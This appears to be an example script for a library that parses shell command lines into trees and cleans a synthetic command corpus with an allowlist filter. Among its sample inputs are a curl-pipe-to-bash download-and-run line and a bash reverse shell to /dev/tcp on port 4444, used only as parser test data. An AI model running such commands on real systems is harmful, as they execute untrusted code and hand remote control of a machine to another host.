# Parse command lines into trees and clean a corpus with the allowlist filter.
#
# Lines that fail the shell-subset parser (typos, invalid operators) or use a
# command name too rare to trust are removed before any model sees them.

from cmdlm import (
    ParseError,
    build_allowlist,
    build_frequency_table,
    extract_command_names,
    filter_valid,
    generate_synthetic_corpus,
    parse_command_line,
    render,
)

for line in [
    "curl http://mirror.example.com/install.sh | bash",
    "grep -r ERROR /var/log | wc -l",
    "bash -i >& /dev/tcp/192.0.2.3/4444 0>&1",
    "echo `date` $(hostname)",
]:
    tree = parse_command_line(line)
    print(f"{line}\n  names: {extract_command_names(tree)}\n  round trip: {render(tree)}\n")

for bad in ["/a/b/c -> /d/e/f ->", 'echo "unterminated', "ls | | wc -l"]:
    try:
        parse_command_line(bad)
    except ParseError as err:
        print(f"rejected {bad!r}: {err}")

corpus = generate_synthetic_corpus(seed=5, n_benign=400, n_inbox=20, n_oob=20, n_invalid=10)
table = build_frequency_table(corpus)
allowlist = build_allowlist(table, min_count=2)
kept, removed = filter_valid(corpus, allowlist)
print(f"\nkept {len(kept)} of {len(corpus)} records; removals by reason:")
reasons = {}
for _, reason in removed:
    reasons[reason] = reasons.get(reason, 0) + 1
print(" ", reasons)
